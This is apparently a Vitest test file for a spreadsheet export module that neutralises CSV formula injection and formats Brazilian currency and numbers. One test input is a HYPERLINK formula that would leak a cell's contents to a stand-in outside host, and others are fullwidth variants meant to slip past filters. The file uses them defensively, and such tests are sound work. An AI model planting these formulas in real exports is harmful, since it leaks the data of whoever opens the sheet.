import { describe, expect, it } from 'vitest'
import { celulaCsv, neutralizarFormula } from './planilha'

describe('neutralizarFormula', () => {
  it.each([
    '=HYPERLINK("http://x.example/?d="&A1;"Clique")',
    '+55 11 99999-0000',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
  ])('prefixes %j with a single quote', (texto) => {
    expect(neutralizarFormula(texto)).toBe(`'${texto}`)
  })

  it.each(['Maria da Silva', '', ' =1+1', "'=já neutro", 'R$ 10,00', '12,50', 'a=b'])(
    'keeps %j as it is',
    (texto) => {
      expect(neutralizarFormula(texto)).toBe(texto)
    },
  )
})

describe('celulaCsv', () => {
  it('writes numbers of numeric columns as numbers, negative ones too', () => {
    expect(celulaCsv(-1250, 'dinheiro')).toBe('-R$\u00a012,50')
    expect(celulaCsv(123456, 'dinheiro')).toBe('R$\u00a01.234,56')
    expect(celulaCsv(-4.5, 'decimal')).toBe('-4,5')
    expect(celulaCsv(-3, 'inteiro')).toBe('-3')
    expect(celulaCsv(0, 'inteiro')).toBe('0')
  })

  it('neutralises text columns, even when the value is a number', () => {
    expect(celulaCsv('=HYPERLINK("http://x")', 'texto')).toBe('\'=HYPERLINK("http://x")')
    expect(celulaCsv('-12,50', 'texto')).toBe("'-12,50")
    expect(celulaCsv(-7, 'texto')).toBe("'-7")
    expect(celulaCsv('OS-2026-0001', 'texto')).toBe('OS-2026-0001')
  })

  it('treats a string in a numeric column as text (it is not a number the sheet can add up)', () => {
    expect(celulaCsv('=1+1', 'dinheiro')).toBe("'=1+1")
    expect(celulaCsv('@x', 'inteiro')).toBe("'@x")
  })

  it('writes an empty cell for a missing value', () => {
    expect(celulaCsv(null, 'texto')).toBe('')
    expect(celulaCsv(undefined, 'dinheiro')).toBe('')
  })
})
